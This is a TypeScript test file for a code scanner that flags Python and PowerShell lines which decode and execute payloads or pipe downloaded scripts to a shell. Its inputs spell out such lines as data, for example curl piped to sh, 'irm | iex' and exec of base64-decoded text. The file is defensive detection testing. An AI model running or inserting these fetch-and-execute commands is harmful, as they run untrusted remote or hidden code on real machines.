import { describe, expect, it } from "vitest";
import { scanLines } from "../../../src/collect/security/scan-lines.ts";

function codes(kind: "python" | "powershell", text: string): string[] {
  return scanLines(kind, "a", text).map(
    ({ severity, code, line }) =>
      `${severity} ${code.replace("security/", "")} ${line ?? ""}`,
  );
}

describe("a program of Python or PowerShell", () => {
  it.each([
    ["exec(base64.b64decode(payload))", "decode-and-run"],
    ['exec(__import__("base64").b64decode(payload))', "decode-and-run"],
    [
      "exec(compile(zlib.decompress(base64.b64decode(p)), 'a', 'exec'))",
      "decode-and-run",
    ],
    ["exec(urllib.request.urlopen(url).read())", "pipe-to-shell"],
    ['os.system("curl https://a.b/c | sh")', "pipe-to-shell"],
    ["subprocess.run('curl https://a.b/c | sh', shell=True)", "pipe-to-shell"],
  ])("%s: %s", (text, code) => {
    expect(codes("python", `import base64\n${text}\n`)).toEqual([
      `critical ${code} 2`,
    ]);
  });

  it("runs what a line before has decoded", () => {
    expect(
      codes("python", "code = base64.b64decode(text)\nexec(code)\n"),
    ).toEqual(["critical decode-and-run 2"]);
  });

  it.each([
    ["irm https://a.b/c.ps1 | iex", "pipe-to-shell"],
    [
      "iex ((New-Object Net.WebClient).DownloadString('https://a.b'))",
      "pipe-to-shell",
    ],
    [
      "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($a)))",
      "decode-and-run",
    ],
  ])("%s: %s", (text, code) => {
    expect(codes("powershell", text)).toEqual([`critical ${code} 1`]);
  });

  it.each([
    "data = base64.b64decode(text)",
    "# exec(base64.b64decode(payload))",
    'print("curl https://a.b/c | sh")',
    'pattern = r"exec\\(base64"',
    'subprocess.run(["git", "status"])',
    'subprocess.run("git status | head", shell=True)',
    'cursor.exec("select 1")',
  ])("nothing of the kind: %s", (text) => {
    expect(codes("python", text)).toEqual([]);
  });
});
